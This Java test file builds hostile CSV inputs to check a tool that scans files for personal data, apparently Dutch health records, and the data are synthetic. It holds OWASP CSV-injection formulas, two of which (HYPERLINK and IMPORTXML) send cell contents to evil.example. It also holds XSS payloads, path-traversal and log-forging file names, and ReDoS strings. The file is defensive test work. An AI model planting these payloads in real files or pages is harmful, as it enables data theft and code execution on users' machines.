package org.exposure.cli.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.exposure.cli.hostile.HostileCorpus.GOOD;
import static org.exposure.cli.hostile.HostileCorpus.HEADER;
import static org.exposure.cli.hostile.HostileCorpus.assess;
import static org.exposure.cli.hostile.HostileCorpus.attack;
import static org.exposure.cli.hostile.HostileCorpus.cells;
import static org.exposure.cli.hostile.HostileCorpus.concat;
import static org.exposure.cli.hostile.HostileCorpus.extract;
import static org.exposure.cli.hostile.HostileCorpus.inWithGood;
import static org.exposure.cli.hostile.HostileCorpus.people;
import static org.exposure.cli.hostile.HostileCorpus.row;
import static org.exposure.cli.hostile.HostileCorpus.secretsOf;
import static org.exposure.cli.hostile.HostileCorpus.write;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;
import org.exposure.cli.hostile.Attack.Expect;
import org.exposure.cli.hostile.Attack.Plan;
import org.exposure.cli.hostile.HostileCorpus.Person;

/** Hostile CSV extracts: RFC 4180 edge cases, OWASP CSV injection, encodings, sizes, names. */
final class CsvAttacks {
  private CsvAttacks() {}

  static List<Attack> all() {
    List<Attack> a = new ArrayList<>();
    headerless(a);
    injection(a);
    structure(a);
    longRuns(a);
    shape(a);
    encodings(a);
    firstByte(a);
    degenerate(a);
    names(a);
    iban(a);
    dialects(a);
    return a;
  }

  /** One CSV file of the given text as the only input; {@code dir/out} is the report. */
  private static Attack.Setup single(String file, Function<Path, byte[]> content) {
    return dir -> {
      Path f = write(dir.resolve("in").resolve(file), content.apply(dir));
      return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f));
    };
  }

  private static Attack.Setup single(String file, String text) {
    return single(file, d -> text.getBytes(UTF_8));
  }

  // Issue item 1: a first row that holds no BSN, date, postcode, e-mail or phone, read as a header.
  private static void headerless(List<Attack> a) {
    headerlessCase(a, "screening-lab", ";", p -> String.join(";", p.name(), "HPV positief", p.city(),
        "Huisartsenpraktijk " + p.gp()));
    headerlessCase(a, "result-first", ";", p -> String.join(";", p.result(), p.name(), p.city()));
    headerlessCase(a, "gp-first", ";", p -> String.join(";", "Huisartsenpraktijk " + p.gp(), p.city(),
        p.name(), "uitstrijkje afgenomen"));
    headerlessCase(a, "places-only", ";", p -> String.join(";", p.city(), "Kerkstraat", p.gp()));
    headerlessCase(a, "comma-names", ",", p -> String.join(",", p.name(), p.city(), "negatief"));
    headerlessCase(a, "one-column-names", ";", Person::name);
    headerlessCase(a, "quoted-family-comma-given", ";", p -> "\"" + p.family() + ", " + p.given()
        + "\";controle over 5 jaar;" + p.city());
    headerlessCase(a, "tab-results-gp", "\t", p -> String.join("\t", p.family(), p.result(),
        "Huisartsenpraktijk " + p.gp()));
  }

  private static void headerlessCase(List<Attack> a, String name, String delimiter,
      Function<Person, String> line) {
    List<Person> women = people(name.length() * 31, 21);
    StringBuilder text = new StringBuilder();
    women.forEach(p -> text.append(line.apply(p)).append('\n'));
    a.add(attack("csv", "headerless-" + name, "1", "issue 15 item 1; RFC 4180 s.2 (header optional)",
        single("dump.csv", text.toString()),
        Expect.rc(0).read(21).secrets(secretsOf(women))
            .notColumnNames(cells(line.apply(women.get(0)), delimiter))));
  }

  /** OWASP "CSV Injection" and CWE-1236 payloads, with a token that makes each one distinctive. */
  static final List<String> FORMULAS = List.of(
      "=cmd|' /C calc'!A0",
      "+cmd|' /C notepad'!Qx1",
      "-2+3+cmd|' /C calc'!Qx2",
      "@SUM(1+9)*cmd|' /C calc'!Qx3",
      "\t=SUM(7331+1337)",
      "\r=SUM(7332+1337)",
      "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klik Qx4\")",
      "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//qx5\")",
      "=DDE(\"cmd\";\"/C calc\";\"Qx6\")");

  static final List<String> MARKUP = List.of(
      "<script>alert('qx7')</script>",
      "<img src=x onerror=alert('qx8')>",
      "\"><svg/onload=alert('qx9')>",
      "</title><script>alert('qx10')</script>",
      "</style><iframe src=javascript:alert('qx11')>",
      "<!--qx12--><a href=\"javascript:alert(1)\">qx13</a>");

  private static void injection(List<Attack> a) {
    List<Person> women = people(40, 9);
    a.add(attack("csv", "formula-cells", "", "OWASP CSV Injection; CWE-1236",
        dir -> {
          StringBuilder s = new StringBuilder(HEADER).append('\n');
          for (int i = 0; i < women.size(); i++) {
            s.append(row(women.get(i), "\"" + FORMULAS.get(i).replace("\"", "\"\"") + "\""))
                .append('\n');
          }
          Path f = write(dir.resolve("in/formulas.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f, "--contact-columns"));
        },
        Expect.rc(0).read(9).secrets(secretsOf(women)).secrets(FORMULAS.stream()
            .map(String::strip).toList())));
    a.add(attack("csv", "formula-in-name-column", "", "OWASP CSV Injection (DDE)",
        dir -> {
          StringBuilder s = new StringBuilder("bsn;naam;postcode;uitslag\n");
          for (int i = 0; i < women.size(); i++) {
            Person p = women.get(i);
            s.append(p.bsn()).append(";\"").append(FORMULAS.get(i).replace("\"", "\"\"")).append(' ')
                .append(p.family()).append("\";").append(p.postcode()).append(";hrHPV positief\n");
          }
          Path f = write(dir.resolve("in/names.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f, "--contact-columns",
              "--controller", "health"));
        },
        Expect.rc(0).read(9).secrets(women.stream().flatMap(p -> List.of(p.bsn(), p.family(),
            p.postcode()).stream()).toList())));
    a.add(attack("csv", "formula-headers", "", "OWASP CSV Injection in column names",
        dir -> {
          StringBuilder s = new StringBuilder("bsn");
          FORMULAS.forEach(f -> s.append(";\"").append(f.replace("\"", "\"\"")).append('"'));
          s.append('\n');
          for (Person p : women) {
            s.append(p.bsn());
            FORMULAS.forEach(f -> s.append(";x"));
            s.append('\n');
          }
          Path f = write(dir.resolve("in/headers.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f));
        },
        // The header is one physical line: the quoted carriage return ends it, and the rest of the
        // line is read (and assessed or rejected) as a record, never lost.
        Expect.rc(0).read(10).secrets(women.stream().map(Person::bsn).toList())));
    a.add(attack("csv", "markup-cells", "", "OWASP XSS filter evasion cheat sheet",
        dir -> {
          StringBuilder s = new StringBuilder(HEADER).append('\n');
          for (int i = 0; i < MARKUP.size(); i++) {
            s.append(row(women.get(i), "\"" + MARKUP.get(i).replace("\"", "\"\"") + "\"")).append('\n');
          }
          Path f = write(dir.resolve("in/markup.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f));
        },
        Expect.rc(0).read(MARKUP.size()).secrets(secretsOf(women.subList(0, MARKUP.size())))
            .secrets(MARKUP).html(MARKUP.toArray(String[]::new))));
    a.add(attack("csv", "markup-headers", "", "OWASP XSS filter evasion cheat sheet (column names)",
        dir -> {
          StringBuilder s = new StringBuilder("bsn");
          MARKUP.forEach(m -> s.append(";\"").append(m.replace("\"", "\"\"")).append('"'));
          s.append('\n');
          for (Person p : women) {
            s.append(p.bsn());
            MARKUP.forEach(m -> s.append(";y"));
            s.append('\n');
          }
          Path f = write(dir.resolve("in/headers.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f, "--lang", "nl"));
        },
        Expect.rc(0).read(9).secrets(women.stream().map(Person::bsn).toList())
            .html(MARKUP.toArray(String[]::new))));
  }

  private static void structure(List<Attack> a) {
    List<Person> w = people(60, 6);
    a.add(attack("csv", "unbalanced-quote", "", "RFC 4180 s.2 rules 5-7",
        single("quotes.csv", HEADER + "\n" + row(w.get(0), "ok") + "\n" + row(w.get(1), "\"open")
            + "\n" + row(w.get(2), "ok") + "\n" + row(w.get(3), "ok") + "\n"),
        Expect.rc(0).secrets(secretsOf(w.subList(0, 4)))));
    a.add(attack("csv", "stray-quotes", "", "RFC 4180 s.2 rule 5 (quotes inside unquoted field)",
        single("stray.csv", HEADER + "\n" + row(w.get(0), "ab\"c\"d") + "\n"
            + row(w.get(1), "\"x\"y\"") + "\n" + row(w.get(2), "''\"\"\"") + "\n"),
        Expect.rc(0).read(3).secrets(secretsOf(w.subList(0, 3)))));
    a.add(attack("csv", "quoted-line-breaks", "", "RFC 4180 s.2 rule 6",
        single("breaks.csv", HEADER + "\r\n" + row(w.get(0), "\"regel 1\r\nregel 2\nregel 3\"") + "\r\n"
            + row(w.get(1), "\"\n\n\n\"") + "\r\n" + row(w.get(2), "gewoon") + "\r\n"),
        Expect.rc(0).records(3, 3, 0).secrets(secretsOf(w.subList(0, 3)))));
    a.add(attack("csv", "ragged-rows", "", "RFC 4180 s.2 rule 4 (same number of fields)",
        single("ragged.csv", HEADER + "\n" + row(w.get(0), "ok") + "\n" + w.get(1).bsn() + ";"
            + w.get(1).name() + "\n" + row(w.get(2), "ok") + ";extra;extra;extra\n"
            + row(w.get(3), "ok") + "\n"),
        Expect.rc(0).records(4, 2, 2).secrets(secretsOf(w.subList(0, 4)))));
  }

  /** Issue item 2: long runs of one character class, that quadratic patterns choke on. */
  private static void longRuns(List<Attack> a) {
    String[][] runs = {
        {"letters-1m", HostileCorpus.line(HostileCorpus.REMARK_LETTERS, 'a')},
        {"at-signs", HostileCorpus.line(HostileCorpus.RUN, '@')},
        {"dots", HostileCorpus.line(HostileCorpus.RUN, '.')},
        {"digits", HostileCorpus.line(HostileCorpus.RUN, '7')},
        {"a-at-alternating", "a@".repeat(HostileCorpus.RUN / 2)},
        {"dotted-domain", "a.".repeat(HostileCorpus.RUN / 2) + "@"},
        {"dashed-dates", "1-".repeat(HostileCorpus.RUN / 2)},
        {"plus-phone", "+31".repeat(HostileCorpus.RUN / 3)},
        {"letters-digits", "a1".repeat(HostileCorpus.RUN / 2)},
        {"spaces-then-at", " ".repeat(HostileCorpus.RUN) + "x@"},
    };
    for (String[] run : runs) {
      List<Person> w = people(100 + run[0].length(), 5);
      a.add(attack("csv", "run-" + run[0], "2", "issue 15 item 2; CWE-1333 (ReDoS)",
          dir -> {
            StringBuilder s = new StringBuilder(HEADER).append('\n');
            for (int i = 0; i < w.size(); i++) {
              s.append(row(w.get(i), i == 2 ? run[1] : "controle")).append('\n');
            }
            Path f = write(dir.resolve("in/remarks.csv"), s.toString());
            return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f));
          },
          Expect.rc(0).read(5).secrets(secretsOf(w))));
    }
  }

  private static void shape(List<Attack> a) {
    List<Person> w = people(200, 5);
    a.add(attack("csv", "columns-10000", "", "CWE-400 (wide rows)",
        dir -> {
          StringBuilder s = new StringBuilder("bsn;naam");
          for (int c = 0; c < HostileCorpus.COLUMNS; c++) {
            s.append(";kolom").append(c);
          }
          s.append('\n');
          for (Person p : w) {
            s.append(p.bsn()).append(';').append(p.name());
            for (int c = 0; c < HostileCorpus.COLUMNS; c++) {
              s.append(';').append(c % 7);
            }
            s.append('\n');
          }
          Path f = write(dir.resolve("in/wide.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f));
        },
        Expect.rc(0).read(5).secrets(w.stream().flatMap(p -> List.of(p.bsn(), p.given(), p.family())
            .stream()).toList())));
    a.add(attack("csv", "header-100k-chars", "", "CWE-400 (long header)",
        single("longheader.csv", HEADER + ";" + "k".repeat(HostileCorpus.RUN) + "\n"
            + String.join("\n", w.stream().map(p -> row(p, "r") + ";x").toList()) + "\n"),
        Expect.rc(0).read(5).secrets(secretsOf(w))));
    a.add(attack("csv", "duplicate-headers", "", "RFC 4180 (names need not be unique)",
        single("dup.csv", "bsn;naam;naam;bsn;uitslag;uitslag\n" + String.join("\n", w.stream()
            .map(p -> String.join(";", p.bsn(), p.given(), p.family(), p.bsn(), p.result(), "neg"))
            .toList()) + "\n"),
        Expect.rc(0).read(5).secrets(w.stream().flatMap(p -> List.of(p.bsn(), p.given(), p.family())
            .stream()).toList())));
    a.add(attack("csv", "empty-headers", "", "RFC 4180 (empty names)",
        single("empty-names.csv", ";;bsn;;;\n" + String.join("\n", w.stream()
            .map(p -> String.join(";", p.given(), p.family(), p.bsn(), p.city(), p.postcode(), ""))
            .toList()) + "\n"),
        Expect.rc(0).read(5).secrets(w.stream().flatMap(p -> List.of(p.bsn(), p.given(), p.family(),
            p.city(), p.postcode()).stream()).toList())));
  }

  private static void encodings(List<Attack> a) {
    List<Person> w = people(300, 6);
    String text = extract(w);
    a.add(attack("csv", "nul-bytes-first-kb", "8", "issue 15 item 8; CWE-158",
        single("nul.csv", d -> (HEADER + "\n" + row(w.get(0), "a\0b") + "\n"
            + String.join("\n", w.subList(1, 6).stream().map(p -> row(p, "ok")).toList()) + "\n")
            .getBytes(UTF_8)),
        Expect.rc(0).read(6).secrets(secretsOf(w))));
    a.add(attack("csv", "nul-after-header", "8", "issue 15 item 8",
        single("nul2.csv", d -> (HEADER + "\n\0\0\0\n" + text.substring(text.indexOf('\n') + 1))
            .getBytes(UTF_8)),
        Expect.rc(0).secrets(secretsOf(w)).check((dir, o) -> {
          JsonNode r = HostileCorpusTest.report(dir.resolve("out"));
          return r != null && r.at("/input/records_read").asLong() < 6
              ? "the 6 valid records are not all read: " + r.at("/input/records_read").asLong() : null;
        })));
    byte[] bomUtf8 = {(byte) 0xef, (byte) 0xbb, (byte) 0xbf};
    byte[] bomLe = {(byte) 0xff, (byte) 0xfe};
    byte[] bomBe = {(byte) 0xfe, (byte) 0xff};
    a.add(attack("csv", "bom-utf8", "", "Unicode BOM",
        single("bom8.csv", d -> concat(bomUtf8, text.getBytes(UTF_8))),
        Expect.rc(0).read(6).secrets(secretsOf(w))));
    a.add(attack("csv", "bom-utf8-twice", "", "Unicode BOM (doubled by a careless export)",
        single("bom8x2.csv", d -> concat(bomUtf8, bomUtf8, text.getBytes(UTF_8))),
        Expect.rc(0).read(6).secrets(secretsOf(w))));
    a.add(attack("csv", "bom-utf16le", "", "Unicode BOM; Excel 'Unicode text'",
        single("bom16le.csv", d -> concat(bomLe, text.replace(';', '\t')
            .getBytes(StandardCharsets.UTF_16LE))),
        Expect.rc(0).read(6).secrets(secretsOf(w))));
    a.add(attack("csv", "bom-utf16be", "", "Unicode BOM",
        single("bom16be.csv", d -> concat(bomBe, text.getBytes(StandardCharsets.UTF_16BE))),
        Expect.rc(0).read(6).secrets(secretsOf(w))));
    a.add(attack("csv", "utf16le-no-bom", "8", "Unicode (UTF-16 without BOM)",
        single("nobom16.csv", d -> text.getBytes(StandardCharsets.UTF_16LE)),
        Expect.rc(0, 1).secrets(secretsOf(w)).check(readAllOrNone(6))));
    a.add(attack("csv", "utf32le-bom", "", "Unicode BOM FF FE 00 00 (not UTF-16LE)",
        single("bom32.csv", d -> concat(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 0},
            text.getBytes(Charset.forName("UTF-32LE")))),
        Expect.rc(0, 1).secrets(secretsOf(w)).check(readAllOrNone(6))));
    a.add(attack("csv", "invalid-utf8", "", "Unicode (ill-formed UTF-8: overlong, lone continuation)",
        single("bad8.csv", d -> concat((HEADER + "\n" + row(w.get(0), "caf")).getBytes(UTF_8),
            new byte[] {(byte) 0xc0, (byte) 0xaf, (byte) 0x80, (byte) 0xed, (byte) 0xa0, (byte) 0x80},
            ("\n" + String.join("\n", w.subList(1, 6).stream().map(p -> row(p, "ok")).toList())
                + "\n").getBytes(UTF_8))),
        Expect.rc(0).read(6).secrets(secretsOf(w))));
    List<Person> accented = people(320, 3).stream().map(p -> new Person(p.bsn(), p.given() + "ë",
        "Öx" + p.family(), p.birth(), p.postcode(), p.city(), p.gp(), p.result())).toList();
    a.add(attack("csv", "windows-1252", "", "Windows-1252 export",
        single("cp1252.csv", d -> extract(accented).getBytes(Charset.forName("windows-1252"))),
        Expect.rc(0).read(3).secrets(secretsOf(accented))));
    a.add(attack("csv", "cr-only-lines", "", "classic Mac OS line ends",
        single("cr.csv", text.replace("\r\n", "\r")),
        Expect.rc(0).read(6).secrets(secretsOf(w))));
    a.add(attack("csv", "mixed-line-ends", "", "RFC 4180 s.2 rule 1 (CRLF) mixed with LF and CR",
        single("mixed.csv", HEADER + "\r\n" + row(w.get(0), "a") + "\n" + row(w.get(1), "b") + "\r"
            + row(w.get(2), "c") + "\r\n"),
        Expect.rc(0).read(3).secrets(secretsOf(w.subList(0, 3)))));
  }

  /** Read as everything (all {@code n} records) or refused with one line: never as garbage. */
  static Attack.Check readAllOrNone(long n) {
    return (dir, o) -> {
      JsonNode r = HostileCorpusTest.report(dir.resolve("out"));
      if (o.codes().get(0) == 0 && r != null && r.at("/input/records_read").asLong() != n) {
        return "read as " + r.at("/input/records_read").asLong() + " records, not " + n;
      }
      return null;
    };
  }

  /** Issue item 8: a CSV whose first byte is '<' (or '{', '[') is still a CSV. */
  private static void firstByte(List<Attack> a) {
    List<Person> w = people(400, 5);
    String body = String.join("\n", w.stream().map(p -> row(p, "ok")).toList()) + "\n";
    a.add(attack("csv", "first-byte-lt", "8", "issue 15 item 8",
        single("lt.csv", "<bsn>;naam;geboortedatum;postcode;woonplaats;uitslag;opmerking\n" + body),
        Expect.rc(0).read(5).secrets(secretsOf(w))));
    a.add(attack("csv", "first-cell-lt-value", "8", "issue 15 item 8 (\"<5 jaar\" as a first cell)",
        single("lt2.csv", "<5 jaar;" + row(w.get(0), "x") + "\n<5 jaar;" + row(w.get(1), "y") + "\n"),
        Expect.rc(0).read(2).secrets(secretsOf(w.subList(0, 2)))));
    a.add(attack("csv", "first-byte-brace", "8", "issue 15 item 8 ('{' first)",
        single("brace.csv", "{id};" + HEADER + "\n" + String.join("\n", w.stream()
            .map(p -> "{" + p.bsn().substring(0, 3) + "};" + row(p, "ok")).toList()) + "\n"),
        Expect.rc(0).read(5).secrets(secretsOf(w))));
  }

  private static void degenerate(List<Attack> a) {
    a.add(attack("csv", "only-header", "", "RFC 4180 (header, no records)",
        single("header.csv", HEADER + "\n"), Expect.rc(0, 1).check(readAllOrNone(0))));
    a.add(attack("csv", "only-blank-lines", "", "RFC 4180",
        single("blank.csv", "\n\r\n\n   \n\t\n"), Expect.rc(1).stderr("blank")));
    a.add(attack("csv", "empty-file", "", "RFC 4180",
        single("empty.csv", ""), Expect.rc(1).stderr("empty")));
    a.add(attack("csv", "bom-only", "", "Unicode BOM",
        single("bom.csv", d -> new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}),
        Expect.rc(1).stderr("empty")));
    a.add(attack("csv", "binary-beside-csv", "", "file signatures (PDF, JPEG, ZIP/xlsx, PNG, gzip, ELF)",
        dir -> {
          Path in = inWithGood(dir);
          write(in.resolve("scan.pdf"), "%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
              .getBytes(StandardCharsets.ISO_8859_1));
          write(in.resolve("photo.jpg"), new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff,
              (byte) 0xe0, 0, 0x10, 'J', 'F', 'I', 'F', 0});
          write(in.resolve("export.xlsx"), concat(new byte[] {'P', 'K', 3, 4, 20, 0, 6, 0},
              "[Content_Types].xml".getBytes(UTF_8)));
          write(in.resolve("export.csv.zip"), new byte[] {'P', 'K', 3, 4, 10, 0, 0, 0});
          write(in.resolve("logo.png"), new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0});
          write(in.resolve("backup.gz"), new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0});
          write(in.resolve("tool"), new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0});
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), in)).listing(in);
        },
        Expect.rc(0).read(5).source("good.csv", 5).skipped("scan.pdf", "").skipped("photo.jpg", "")
            .skipped("export.xlsx", "").skipped("logo.png", "").skipped("backup.gz", "")
            .secrets(secretsOf(GOOD))));
    a.add(attack("csv", "xlsx-named-csv", "", "file signatures (a ZIP named .csv)",
        dir -> {
          Path in = inWithGood(dir);
          write(in.resolve("export.csv"), concat(new byte[] {'P', 'K', 3, 4, 20, 0, 6, 0},
              "xl/worksheets/sheet1.xml".getBytes(UTF_8), new byte[64]));
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), in)).listing(in);
        },
        Expect.rc(0).read(5).skipped("export.csv", "").secrets(secretsOf(GOOD))));
  }

  /** File names as attacks: traversal, control characters, formulas and markup (CWE-22/117/150). */
  private static void names(List<Attack> a) {
    String[][] names = {
        {"traversal-backslash", "export\\..\\..\\..\\etc\\passwd.csv"},
        {"traversal-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd.csv"},
        {"newline", "lab\nexposure: done, nothing found.csv"},
        {"ansi-escape", "\u001b[2J\u001b[31mlab\u0007.csv"},
        {"formula", "=cmd|' calc'!A0.csv"},
        {"markup", "<img src=x onerror=alert('qx14')>.csv"},
        {"bidi-override", "lab\u202evsc.exe"},
    };
    for (String[] n : names) {
      List<Person> w = people(500 + n[0].length() * 7, 4);
      a.add(attack("csv", "file-name-" + n[0], "", "CWE-22, CWE-117, CWE-150, OWASP CSV Injection",
          dir -> {
            Path in = Files.createDirectories(dir.resolve("in"));
            write(in.resolve(n[1]), extract(w));
            return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), in, "--contact-columns"));
          },
          Expect.rc(0).read(4).secrets(secretsOf(w)).html(n[0].equals("markup") ? n[1] : "<never>")));
    }
    // The same names on files that are listed as skipped, and on an input that is missing: printed
    // on stdout and in the one line of stderr, where a control character could forge or hide a line.
    a.add(attack("csv", "file-names-skipped", "", "CWE-117, CWE-150 (names printed as skipped)",
        dir -> {
          Path in = inWithGood(dir);
          for (String[] n : names) {
            write(in.resolve(n[1] + ".png"), new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0});
          }
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), in)).listing(in);
        },
        Expect.rc(0).source("good.csv", 5).secrets(secretsOf(GOOD))));
    a.add(attack("csv", "file-name-missing-newline", "", "CWE-117 (a forged second line)",
        dir -> Plan.of(dir.resolve("out"), assess(dir.resolve("out"),
            dir.resolve("lab\nexposure: done, nothing found.csv"))),
        Expect.rc(1).stderr("not found")));
  }

  /** CSV dialects a stranger found misread: Excel's first line, a header on every page, a header word. */
  private static void dialects(List<Attack> a) {
    List<Person> w = people(2300, 6);
    String body = String.join("\n", w.stream().map(p -> row(p, "r")).toList()) + "\n";
    a.add(attack("csv", "excel-sep-line", "", "Excel 'sep=' directive; a stranger's finding",
        single("excel.csv", "sep=;\n" + HEADER + "\n" + body),
        Expect.rc(0).records(6, 6, 0).secrets(secretsOf(w))));
    StringBuilder pages = new StringBuilder(HEADER).append('\n');
    for (int i = 0; i < w.size(); i++) {
      pages.append(row(w.get(i), "r")).append('\n').append(i % 2 == 1 ? HEADER + "\n" : "");
    }
    a.add(attack("csv", "header-every-page", "", "report exports repeating the header; a stranger's finding",
        single("pages.csv", pages.toString()),
        Expect.rc(0).records(9, 6, 3).rejection("repeats the header row").secrets(secretsOf(w))));
    // Two exports joined (the second header in capitals, behind a byte-order mark), a partial one
    String upper = "\uFEFF" + HEADER.toUpperCase(java.util.Locale.ROOT);
    a.add(attack("csv", "header-variant-appended", "", "cat of two exports; a stranger's finding",
        single("joined.csv", HEADER + "\n" + body + upper + "\n" + body + "bsn;;;;;;\n"),
        Expect.rc(0).records(14, 12, 2).rejection("repeats the header row").secrets(secretsOf(w))
            .check(headerRead(6))));
    a.add(attack("csv", "date-column-name", "", "a pivot with a column per date; a stranger's finding",
        single("pivot.csv", HEADER + ";2024-01-01\n" + String.join("\n", w.stream()
            .map(p -> row(p, "r") + ";pos").toList()) + "\n"),
        Expect.rc(0).records(6, 6, 0).secrets(secretsOf(w)).notColumnNames(List.of("2024-01-01"))
            .check(headerRead(6))));
    for (String[] sep : new String[][] {{"tab", "\t"}, {"padded", ";"}}) {
      String d = sep[1];
      String line = sep[0].equals("padded") ? "sep=;;;;;;;" : "sep=\t";
      a.add(attack("csv", "excel-sep-" + sep[0], "", "Excel 'sep=' as Excel writes it; a stranger's finding",
          single("excel-" + sep[0] + ".csv", line + "\n" + HEADER.replace(";", d) + "\n"
              + body.replace(";", d)),
          Expect.rc(0).records(6, 6, 0).secrets(secretsOf(w)).check(headerRead(6))));
    }
    String[][] titles = {{"title", "Export patientenlijst"}, {"comment", "# export 2024-03-01"},
        {"title-and-date", "Export 2024-03-01;;;;;;"},
        {"two-lines", "Rapport HIV-poli\nExport 2024"}};
    for (String[] t : titles) {
      int lines = (int) t[1].lines().count();
      a.add(attack("csv", "preamble-" + t[0], "", "lab exports with a title above the table; a stranger's finding",
          single("titled.csv", t[1] + "\n" + HEADER + "\n" + body),
          Expect.rc(0).records(6 + lines, 6, lines).rejection("a line above the table")
              .secrets(secretsOf(w)).check(headerRead(6))));
    }
    StringBuilder words = new StringBuilder();
    String[] labels = {"email", "telefoon", "post", "naam", "status", "code"};
    for (int i = 0; i < w.size(); i++) {
      words.append(w.get(i).name()).append(',').append(labels[i]).append('\n');
    }
    a.add(attack("csv", "headerless-header-word", "1", "issue 15 item 1; a stranger's finding",
        single("names.csv", words.toString()),
        Expect.rc(0).read(6).secrets(w.stream().map(Person::name).toList())
            .notColumnNames(List.of(w.get(0).name()))));
  }

  /**
   * The header was read as the header: {@code n} subjects, none at Low (each has a BSN and a name),
   * and the {@code bsn} column typed as a national ID by its name.
   */
  private static Attack.Check headerRead(int n) {
    return (dir, o) -> {
      JsonNode r = HostileCorpusTest.report(dir.resolve("out"));
      if (r == null) {
        return "no report";
      }
      boolean bsnNamed = false;
      for (JsonNode f : r.get("fields")) {
        bsnNamed |= f.get("field").asText().equals("bsn") && f.get("type").asText().equals("NATIONAL_ID");
      }
      return r.get("subjects").asLong() == n && r.at("/severity/low").asLong() == 0 && bsnNamed ? null
          : "the header was misread: " + r.get("subjects").asLong() + " subjects, "
              + r.at("/severity/low").asLong() + " at Low, bsn column named " + bsnNamed;
    };
  }

  /**
   * Issue item 6: a {@code naam} column of names of 15 letters or more, each of which passes the
   * IBAN mod-97 check when its spaces are dropped, must not be typed BANK_ACCOUNT.
   */
  private static void iban(List<Attack> a) {
    List<Person> w = ibanLike(21);
    a.add(attack("csv", "iban-like-names", "6", "issue 15 item 6; ISO 13616 (IBAN) mod-97",
        dir -> {
          StringBuilder s = new StringBuilder("bsn;naam;uitslag\n");
          w.forEach(p -> s.append(p.bsn()).append(';').append(p.name()).append(";hrHPV positief\n"));
          Path f = write(dir.resolve("in/hpv.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f, "--controller", "health",
              "--malicious"));
        },
        Expect.rc(0).records(21, 21, 0).secrets(w.stream().flatMap(p -> List.of(p.bsn(), p.given(),
            p.family()).stream()).toList()).check(nameColumnAndVeryHigh(21))));
    List<Person> plain = people(700, 21);
    a.add(attack("csv", "iban-control-plain-names", "6", "control for iban-like-names",
        dir -> {
          StringBuilder s = new StringBuilder("bsn;naam;uitslag\n");
          plain.forEach(p -> s.append(p.bsn()).append(';').append(p.name()).append(";hrHPV positief\n"));
          Path f = write(dir.resolve("in/hpv.csv"), s.toString());
          return Plan.of(dir.resolve("out"), assess(dir.resolve("out"), f, "--controller", "health",
              "--malicious"));
        },
        Expect.rc(0).records(21, 21, 0).secrets(plain.stream().flatMap(p -> List.of(p.bsn(),
            p.given(), p.family()).stream()).toList()).check(nameColumnAndVeryHigh(21))));
  }

  private static Attack.Check nameColumnAndVeryHigh(int women) {
    return (dir, o) -> {
      JsonNode r = HostileCorpusTest.report(dir.resolve("out"));
      if (r == null) {
        return "no report.json";
      }
      for (JsonNode f : r.get("fields")) {
        if (f.get("field").asText().equals("naam") && !f.get("type").asText().equals("PERSON_NAME")) {
          return "the naam column is typed " + f.get("type").asText() + ", not PERSON_NAME";
        }
      }
      long veryHigh = r.at("/severity/very_high").asLong();
      return veryHigh == women ? null
          : veryHigh + " of " + women + " women with a BSN, a name and a positive result are Very high";
    };
  }

  /** Names of 15 letters or more that pass the mod-97 check of an IBAN once their spaces go. */
  static List<Person> ibanLike(int count) {
    return ibanExact(count);
  }

  private static List<Person> ibanExact(int count) {
    List<Person> found = new ArrayList<>();
    String[] given = {"Nlbertha", "Deltrudis", "Belvira", "Gbrietje", "Frmalinde", "Nlorentia"};
    String[] family = {"Vandermeulenhof", "Hoogstratenveld", "Wildeboerkamp", "Zonneveldhuizen"};
    for (int i = 0; found.size() < count && i < 1_000_000; i++) {
      String g = given[i % given.length];
      String f = family[(i / given.length) % family.length] + suffixLetters(i);
      if (passesMod97((g + f).toUpperCase(java.util.Locale.ROOT))) {
        Person p = HostileCorpus.person(800 + found.size());
        found.add(new Person(p.bsn(), g, f, p.birth(), p.postcode(), p.city(), p.gp(), p.result()));
      }
    }
    return found;
  }

  private static String suffixLetters(int n) {
    StringBuilder s = new StringBuilder();
    do {
      s.append((char) ('a' + n % 26));
      n /= 26;
    } while (n > 0);
    return s.toString();
  }

  /** ISO 13616 mod-97 over letters (A = 10 ... Z = 35), as a 15-letter name would be checked. */
  static boolean passesMod97(String s) {
    if (s.length() < 15 || s.length() > 34) {
      return false;
    }
    String rearranged = s.substring(4) + s.substring(0, 4);
    int remainder = 0;
    for (char c : rearranged.toCharArray()) {
      if (c < 'A' || c > 'Z') {
        return false;
      }
      remainder = (remainder * 100 + (c - 'A' + 10)) % 97;
    }
    return remainder == 1;
  }

  static ObjectMapper mapper() {
    return new ObjectMapper();
  }
}
